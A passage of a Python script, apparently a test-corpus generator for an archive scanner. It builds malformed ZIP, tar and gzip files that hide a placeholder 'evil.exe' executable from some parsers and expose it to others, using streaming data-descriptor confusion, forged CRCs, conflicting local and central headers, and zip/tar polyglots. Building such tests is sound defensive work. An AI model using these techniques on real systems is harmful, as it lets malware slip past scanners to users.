    assert zlib.crc32(data + bytes(out)) == target
    return bytes(out)


def make_streaming_review():
    # The second review of the streaming readers (bsdtar reading a pipe, ZipInputStream).
    hidden = lh(b"evil.exe", 0, zlib.crc32(MZ), len(MZ), len(MZ)) + MZ
    comp = deflate(TXT); crc = zlib.crc32(TXT)
    # No data descriptor, the deflate stream ends early, a record inside the declared data.
    data = comp + hidden
    rec = lh(b"a.txt", 8, crc, len(data), len(TXT)) + data
    cd = ch(b"a.txt", 8, crc, len(data), len(TXT), 0)
    write("stream_deflate_ends_early", rec + cd + eocd(1, len(cd), len(rec)))
    # Stored, no data descriptor, local sizes and CRC 0: streaming readers take it as empty.
    data = TXT + hidden
    rec = lh(b"a.txt", 0, 0, 0, 0) + data
    cd = ch(b"a.txt", 0, zlib.crc32(data), len(data), len(data), 0)
    write("stream_local_sizes_zero", rec + cd + eocd(1, len(cd), len(rec)))
    # A record before the directory, and a byte after the end record.
    txt = lh(b"a.txt", 0, crc, len(TXT), len(TXT)) + TXT
    cd = ch(b"a.txt", 0, crc, len(TXT), len(TXT), 0)
    write("stream_gap_byte_after_end", txt + hidden + cd + eocd(1, len(cd), len(txt + hidden)) + b"\n")
    # A directory entry with a data descriptor whose data is a record, the descriptor that
    # closes it, and a record after it.
    y = lh(b"y.txt", 0, 0, 0, 0, flags=8) + TXT
    data = y + struct.pack("<IIII", 0x08074b50, crc, len(TXT), len(TXT)) + hidden
    rec = lh(b"d/", 0, 0, 0, 0, flags=8) + data
    desc = struct.pack("<IIII", 0x08074b50, zlib.crc32(data), len(data), len(data))
    cd = ch(b"d/", 0, zlib.crc32(data), len(data), len(data), 0, flags=8, ext_attr=0x10)
    write("stream_directory_descriptor", rec + desc + cd + eocd(1, len(cd), len(rec + desc)))
    # A deflated member with a descriptor whose stream ends early and gives more bytes than
    # the directory declares.
    data = comp + struct.pack("<IIII", 0x08074b50, crc, len(comp), len(TXT)) + hidden
    rec = lh(b"a.txt", 8, 0, 0, 0, flags=8) + data
    cd = ch(b"a.txt", 8, crc, len(data), len(TXT) - 1, 0, flags=8)
    write("stream_declared_below_output", rec + cd + eocd(1, len(cd), len(rec)))
    # a.txt stored with a descriptor flag and no descriptor; inside b.txt's data a descriptor
    # whose CRC is that of the bytes from a.txt's data to it (bsdtar -x ends a.txt there).
    a = lh(b"a.txt", 0, 0, 0, 0, flags=8) + TXT
    b_text = b"Second note.\n" * 5
    tail = hidden + b"\nend of notes\n"
    bcrc = 0x2a2a2a2a
    bsize = len(b_text) + 16 + len(tail) + 4
    b_hdr = lh(b"b.txt", 0, bcrc, bsize, bsize)
    dcrc = zlib.crc32(TXT + b_hdr + b_text)
    bdata = b_text + struct.pack("<IIII", 0x08074b50, dcrc, 0, 0) + tail
    bdata += crc_forge(bdata, bcrc)
    cd = ch(b"a.txt", 0, crc, len(TXT), len(TXT), 0, flags=8) + ch(b"b.txt", 0, bcrc, bsize, bsize, len(a))
    write("stream_crc_descriptor_in_next", a + b_hdr + bdata + cd + eocd(2, len(cd), len(a + b_hdr + bdata)))
    # Stored with a descriptor flag and a smaller local size: bsdtar goes by it.
    data = TXT + struct.pack("<III", crc, len(TXT), len(TXT)) + hidden
    rec = lh(b"a.txt", 0, crc, len(TXT), len(TXT), flags=8) + data
    cd = ch(b"a.txt", 0, zlib.crc32(data), len(data), len(data), 0, flags=8)
    write("stream_local_size_smaller", rec + cd + eocd(1, len(cd), len(rec)))
    # Names extractors shorten: "evil.exe\0/" (a file evil.exe), "run.js/." (run.js).
    name = b"evil.exe\0/"
    rec = lh(name, 0, zlib.crc32(MZ), len(MZ), len(MZ)) + MZ
    cd = ch(name, 0, zlib.crc32(MZ), len(MZ), len(MZ), 0, ext_attr=0x10)
    write("name_nul_slash", rec + cd + eocd(1, len(cd), len(rec)))
    write("name_dot_component", simple([(b"run.js/.", b"function f(a) { return a + 1; }\nf(2);\n", 0)]))


def make_review_stream_zip64_extra_short_descriptor():
    # bit-3 deflated a.txt with a zip64 extra in its local header: libarchive (and qmvc) read a
    # 24-byte zip64 data descriptor; Java 17's ZipInputStream reads the 16-byte one (it takes
    # the zip64 form only past 4 GiB) and reads the local record standing right after: evil.exe.
    comp = deflate(TXT); crc = zlib.crc32(TXT)
    x64 = struct.pack("<HHQQ", 1, 16, 0, 0)
    out = lh(b"a.txt", 8, 0, 0, 0, flags=8, extra=x64, ver=45) + comp
    out += struct.pack("<IIII", 0x08074b50, crc, len(comp), len(TXT))   # 16-byte descriptor
    ecomp = deflate(MZ); ecrc = zlib.crc32(MZ)
    out += lh(b"evil.exe", 8, ecrc, len(ecomp), len(MZ)) + ecomp
    cd = ch(b"a.txt", 8, crc, len(comp), len(TXT), 0, flags=8)
    write("stream_zip64_extra_short_descriptor", out + cd + eocd(1, len(cd), len(out)))


def make_review_stream_unknown_method():
    # a.bin: method 77 (unknown), bit 3, every size 0 (local and central): zip.js lists it empty,
    # qmvc computes no end for it. libarchive streaming skips it by scanning to the first PK\7\8
    # and consuming 16 bytes, then scans on to the next local record: evil.exe, never listed.
    M = 77
    body = b"\x00" * 20
    out = lh(b"a.bin", M, 0, 0, 0, flags=8) + body + struct.pack("<IIII", 0x08074b50, 0, 0, 0)
    ecomp = deflate(MZ); ecrc = zlib.crc32(MZ)
    out += lh(b"evil.exe", 8, ecrc, len(ecomp), len(MZ)) + ecomp
    cd = ch(b"a.bin", M, 0, 0, 0, 0, flags=8)
    write("stream_unknown_method", out + cd + eocd(1, len(cd), len(out)))


def make_review_stream_stored_crc_descriptor_past_size():
    # a.txt stored with bit 3 and a compressed size L in the local header (uncompressed 0). qmvc
    # ends it at dataStart+L only (then +12 for a descriptor), where a central-directory signature
    # stops its scan. libarchive unpacking from a pipe ignores the local size of a bit-3 stored
    # member: it scans for the data descriptor whose CRC matches the bytes before it, past that
    # PK\1\2, and reads the record after it: evil.exe.
    L = len(TXT)
    data = TXT + b"\0" * 16 + b"PK\x01\x02" + b"\0" * 8
    crc_all = zlib.crc32(data)
    out = lh(b"a.txt", 0, 0, L, 0, flags=8) + data
    out += struct.pack("<IIII", 0x08074b50, crc_all, len(data), len(data))
    ecomp = deflate(MZ); ecrc = zlib.crc32(MZ)
    out += lh(b"evil.exe", 8, ecrc, len(ecomp), len(MZ)) + ecomp
    cd = ch(b"a.txt", 0, zlib.crc32(TXT), L, L, 0, flags=8)
    write("stream_stored_crc_descriptor_past_size", out + cd + eocd(1, len(cd), len(out)))


def make_review_stream_skip_by_local_size():
    # A deflated member with bit 3 and its compressed size L in the local header too: listing
    # from a pipe, libarchive skips L bytes and scans on from there (no descriptor is consumed
    # after a member skipped by its size), and finds the evil.exe record standing right there.
    # For a directory "d/" with data, bsdtar unpacking from a pipe does the same.
    comp = deflate(TXT); crc = zlib.crc32(TXT)
    ecomp = deflate(MZ); ecrc = zlib.crc32(MZ)
    evil = lh(b"evil.exe", 8, ecrc, len(ecomp), len(MZ), extra=struct.pack("<HH", 0xCAFE, 4) + b"PK\x01\x02") + ecomp
    for name, attr, tag in [(b"a.txt", 0, "stream_skip_by_local_size"), (b"d/", 0x10, "stream_directory_skip_by_local_size")]:
        out = lh(name, 8, 0, len(comp), 0, flags=8) + comp + evil
        cd = ch(name, 8, crc, len(comp), len(TXT), 0, flags=8, ext_attr=attr)
        write(tag, out + cd + eocd(1, len(cd), len(out)))


def make_review_central_sizes_zero_deflated():
    # a.txt deflated with bit 3; the central directory (and the descriptor's sizes, for Python)
    # say 0 bytes, its local data is a whole deflate stream of a PE. qmvc reads 0 bytes, sniffs
    # nothing and reports nothing; libarchive from a pipe and Java's ZipInputStream inflate the
    # stream to its end: a.txt = MZ...
    comp = deflate(MZ); crc = zlib.crc32(MZ)
    out = lh(b"a.txt", 8, 0, 0, 0, flags=8) + comp
    out += struct.pack("<IIII", 0x08074b50, crc, len(comp), len(MZ))
    cd = ch(b"a.txt", 8, 0, 0, 0, 0, flags=8)
    write("central_sizes_zero_deflated", out + cd + eocd(1, len(cd), len(out)))


def make_review_central_sizes_zero_stored():
    # a.txt stored, no bit 3: its local header gives the PE's sizes and CRC, the central directory
    # 0 bytes. zip.js refuses the disagreeing member, which with 0 bytes declared is no problem
    # for qmvc; libarchive from a pipe and Java's ZipInputStream go by the local header: MZ.
    crc = zlib.crc32(MZ)
    out = lh(b"a.txt", 0, crc, len(MZ), len(MZ)) + MZ
    cd = ch(b"a.txt", 0, 0, 0, 0, 0)
    write("central_sizes_zero_stored", out + cd + eocd(1, len(cd), len(out)))


def make_review_stream_runs_off_inner_zip():
    # The 'known' exemption: records of a zip stored inside are not followed in the outer zip's
    # bytes. inner.zip (stored, bit 3, local size 0) holds a.txt, whose stored text carries a
    # descriptor D1 with the CRC of inner.zip's bytes up to it: libarchive ends inner.zip there
    # and reads on at the inner record b.txt (known: qmvc stops). b.txt is stored, bit 3, local
    # size 0, with no descriptor inside inner.zip: libarchive scans past inner.zip's end to D2 in
    # the outer zip (CRC of b.txt's bytes up to it) and unpacks the evil.exe record after it.
    # outer record O1 header first: its length fixes offsets
    o1 = lh(b"inner.zip", 0, 0, 0, 0, flags=8)
    base = len(o1)                                  # inner.zip's bytes start here
    # inner a.txt (stored): D1 stands in its local header's extra field, with the CRC of
    # inner.zip's bytes (O1's data) up to D1
    head = lh(b"a.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), extra=b"\0" * 20)[:-20]
    head = bytearray(head)
    pre = bytes(head) + b"\xfe\xca\x10\x00"
    d1 = struct.pack("<IIII", 0x08074b50, zlib.crc32(pre), len(pre), len(pre))
    r1 = bytes(head) + struct.pack("<HH", 0xCAFE, 16) + d1
    adata = TXT
    inner = r1 + adata
    off2 = len(inner)
    r2 = lh(b"b.txt", 0, 0, 0, 0, flags=8)
    inner += r2 + TXT
    cd = ch(b"a.txt", 0, zlib.crc32(adata), len(adata), len(adata), 0)
    cd += ch(b"b.txt", 0, zlib.crc32(TXT), len(TXT), len(TXT), off2, flags=8)
    icd_at = len(inner)
    inner += cd + eocd(2, len(cd), icd_at)
    out = o1 + inner
    # D2: CRC of b.txt's bytes (from its data start) up to D2, in the outer zip's bytes
    bstart = base + off2 + len(r2)
    d2 = struct.pack("<IIII", 0x08074b50, zlib.crc32(out[bstart:]), len(out) - bstart, len(out) - bstart)
    out += d2
    ecomp = deflate(MZ); ecrc = zlib.crc32(MZ)
    out += lh(b"evil.exe", 8, ecrc, len(ecomp), len(MZ)) + ecomp
    ocd = ch(b"inner.zip", 0, zlib.crc32(inner), len(inner), len(inner), 0, flags=8)
    write("stream_runs_off_inner_zip", out + ocd + eocd(1, len(ocd), len(out)))


def make_review_stream_local_encrypted_flag():
    # a.txt: its local header says encrypted (bit 0) and bit 3, sizes 0; the central directory
    # says neither, sizes 0. qmvc computes no end for an encrypted record and reads nothing of a
    # member of 0 bytes; libarchive from a pipe cannot decrypt it and reads on from its data:
    # the evil.exe record standing right there.
    ecomp = deflate(MZ); ecrc = zlib.crc32(MZ)
    out = lh(b"a.txt", 0, 0, 0, 0, flags=9)
    out += lh(b"evil.exe", 8, ecrc, len(ecomp), len(MZ)) + ecomp
    cd = ch(b"a.txt", 0, 0, 0, 0, 0)
    write("stream_local_encrypted_flag", out + cd + eocd(1, len(cd), len(out)))


def make_review_tar_then_zip():
    # tar (ustar, one harmless file) followed by a whole zip holding evil.exe, after the tar's end blocks
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("readme.txt"); ti.size = len(TXT); t.addfile(ti, io.BytesIO(TXT))
    tar = bio.getvalue()
    zp = simple([(b"evil.exe", MZ, 8)])
    write("tar_then_zip", tar + zp)
    # same with offsets rebased so the zip is self-consistent in the whole file
    out = tar; comp = deflate(MZ)
    off = len(out); rec = lh(b"evil.exe", 8, zlib.crc32(MZ), len(comp), len(MZ)) + comp
    cd = ch(b"evil.exe", 8, zlib.crc32(MZ), len(comp), len(MZ), off)
    write("tar_then_zip_rebased", tar + rec + cd + eocd(1, len(cd), off + len(rec)))


def make_review_zip_also_tar():
    # A zip whose first local record is also a tar header (its extra field holds the tar fields):
    # zip readers list a.txt (text), tar readers (bsdtar from file or pipe, GNU tar, Python tarfile)
    # unpack evil.exe (pax path) from the zip member's stored bytes.
    def tarhdr(b):
        b = bytearray(b); b[148:156] = b" " * 8
        s = sum(b); b[148:156] = b"%06o\0 " % s; return bytes(b)
    # the tar stream after the first header: pax data block, ustar header, MZ, end
    pax = b"path=evil.exe\n"; rec = b"%d %s" % (len(pax) + 3, pax)
    assert len(rec) == int(rec.split(b" ")[0])
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("x"); ti.size = len(MZ); t.addfile(ti, io.BytesIO(MZ))
    rest = bio.getvalue()
    data = rec + b"\0" * (512 - len(rec)) + rest          # the zip member a.txt's stored bytes
    name = b"a.txt"
    extra_len = 512 - 30 - len(name)
    crc = zlib.crc32(data)
    head = lh(name, 0, crc, len(data), len(data), extra=struct.pack("<HH", 0xCAFE, extra_len - 4) + b"\0" * (extra_len - 4))
    head = bytearray(head)
    head[124:136] = b"%011o\0" % len(rec)
    head[156:157] = b"x"
    head[257:265] = b"ustar\x0000"
    head = tarhdr(head)
    assert len(head) == 512
    cd = ch(name, 0, crc, len(data), len(data), 0)
    out = head + data
    write("zip_also_tar", out + cd + eocd(1, len(cd), len(out)))


def make_gz_then_zip():
    # A gzip of a text, then a zip holding a PE: gunzip stops at its stream's end, zip
    # readers open the file by the end record at its tail.
    import gzip
    data = gzip.compress(TXT, mtime=0) + simple([(b"evil.exe", MZ, 8)])
    with open(os.path.join(OUT, "gz_then_zip.gz"), "wb") as f:
        f.write(data)


def make_zip_behind_bytes_in_member():
    # Members that hold a zip behind other bytes, which zip readers open by its end record:
    # a.zip (a line of text, then the zip), report.docx (70 KB, more than is sniffed, then
    # the zip), and a tar whose a.txt is such a text and zip.
    evil = simple([(b"evil.exe", MZ, 8)])
    write("member_text_then_zip", simple([(b"a.zip", b"hello\n" + evil, 0)]))
    noise = random.Random(7).randbytes(70 * 1024)
    write("member_named_docx_then_zip", simple([(b"report.docx", noise + evil, 0)]))
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("a.txt")
        info.size = len(b"hello\n" + evil)
        t.addfile(info, io.BytesIO(b"hello\n" + evil))
    write("tar_member_text_then_zip", simple([(b"x.tar", bio.getvalue(), 8)]))


def make_fourth_review():
    import zipfile
    def zip_of(path, entries):
        with zipfile.ZipFile(os.path.join(OUT, path), "w") as z:
            for name, data, method, extra in entries:
                info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
                info.compress_type = method
                info.extra = extra
                z.writestr(info, data)
    # A stored member whose Unicode Path field (version 0: zip.js ignores it, 7-Zip takes it)
    # names it like the bzip2 member holding a PE: 7-Zip unpacks one over the other.
    def upath(raw, uni):
        d = bytes([0]) + struct.pack("<I", zlib.crc32(raw)) + uni
        return struct.pack("<HH", 0x7075, len(d)) + d
    zip_of("sevenzip_name_collision.zip", [
        ("b.txt", MZ, zipfile.ZIP_BZIP2, b""),
        ("c.txt", TXT, zipfile.ZIP_STORED, upath(b"c.txt", b"b.txt")),
    ])
    # A PE whose first block is also a tar header (its PE header moved to 0x200).
    pe = bytearray(MZ[:0x80].ljust(0x200, b"\0")) + MZ[0x80:]
    struct.pack_into("<I", pe, 0x3C, 0x200)
    pe = bytearray(pe.ljust(0x200 + 1024, b"\0"))
    h = pe[:512]
    def put(at, value):
        h[at:at + len(value)] = value
    put(100, b"0000644\0"); put(108, b"0000000\0"); put(116, b"0000000\0")
    put(124, b"%011o\0" % (len(pe) - 512)); put(136, b"00000000000\0"); put(156, b"0")
    put(257, b"ustar\x0000"); put(148, b"        "); put(148, b"%06o\0 " % sum(h))
    pe[:512] = h
    zip_of("pe_with_tar_header.zip", [("setup.exe", bytes(pe) + b"\0" * 1024, zipfile.ZIP_DEFLATED, b"")])


if __name__ == "__main__":
    for name, make in sorted(globals().items()):
        if name.startswith("make_"):
            make()
